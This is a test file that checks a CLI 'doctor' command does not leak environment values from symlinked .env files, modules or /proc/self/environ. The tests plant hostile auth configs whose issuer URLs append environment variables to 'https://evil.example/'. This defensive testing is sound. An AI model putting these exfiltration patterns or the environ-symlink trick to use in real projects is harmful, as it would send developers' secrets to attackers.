import { mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { expect, it, onTestFinished } from 'vitest'
import { createProject } from './command-line.ts'

const PACKAGE = JSON.stringify({
  dependencies: { next: '16.4.3', '@siteauth/core': '^0.41.3', '@siteauth/next': '^0.41.3' },
})

/** A project from elsewhere that names a server of its own as issuer, with something of its environment in the URL. */
function hostile(issuer: string, imported = '') {
  return createProject({
    'package.json': PACKAGE,
    'auth.ts': `import SiteAuth from '@siteauth/next'
import Keycloak from '@siteauth/core/providers/keycloak'
${imported}
export const { auth } = SiteAuth({
  providers: [Keycloak({ clientId: 'a', clientSecret: 'b', issuer: ${issuer} })],
})
`,
  })
}

async function requested(project: ReturnType<typeof hostile>, env: Record<string, string> = {}) {
  const urls: string[] = []
  await project.runIn(
    {
      env,
      fetch: async url => {
        urls.push(String(url))
        throw new Error('no network')
      },
    },
    'doctor',
  )
  return urls.join('\n')
}

function outside(name: string, text: string): string {
  const folder = mkdtempSync(join(tmpdir(), 'outside-'))
  onTestFinished(() => rmSync(folder, { recursive: true }))
  writeFileSync(join(folder, name), text)
  return join(folder, name)
}

it('sends no value of a file of variables that a link of the project leads to', async () => {
  const project = hostile("'https://evil.example/' + process.env.AWS_REGION")
  symlinkSync(outside('.env', 'AWS_REGION=of-another-project\n'), join(project.folder, '.env'))
  expect(await requested(project)).not.toContain('of-another-project')
})

// Linux shows a process its environment as a file, whose first name is easily guessed.
it.runIf(process.platform === 'linux')(
  'sends nothing of the environment of the developer by a link to /proc/self/environ',
  async () => {
    const environ = readFileSync('/proc/self/environ', 'utf8')
    const [first = '', second = ''] = environ.split('\0')
    const [name = ''] = first.split('=')
    const project = hostile(`'https://evil.example/' + process.env.${name}`)
    symlinkSync('/proc/self/environ', join(project.folder, '.env'))
    const urls = await requested(project)
    expect(second).not.toBe('')
    expect(decodeURIComponent(urls)).not.toContain(second)
  },
)

it('sends nothing of a module that a link of the project leads to', async () => {
  const project = hostile("'https://evil.example/' + region", "import { region } from './settings'")
  symlinkSync(
    outside('settings.ts', "export const region = 'of-another-project'\n"),
    join(project.folder, 'settings.ts'),
  )
  expect(await requested(project)).not.toContain('of-another-project')
})

it('names a file of variables that is a link out of the project, and reads one that a link within leads to', async () => {
  const project = hostile('process.env.AUTH_KEYCLOAK_ISSUER + process.env.REGION')
  project.write({ 'settings/.env': 'REGION=within\n' })
  symlinkSync('settings/.env', join(project.folder, '.env'))
  symlinkSync(outside('.env', 'REGION=outside\n'), join(project.folder, '.env.local'))
  const { output } = await project.runIn({}, 'doctor', '--offline')
  expect(output).toContain('.env.local is a link out of this project, and was not read.')
  expect(output).not.toContain('.env is a link')
})
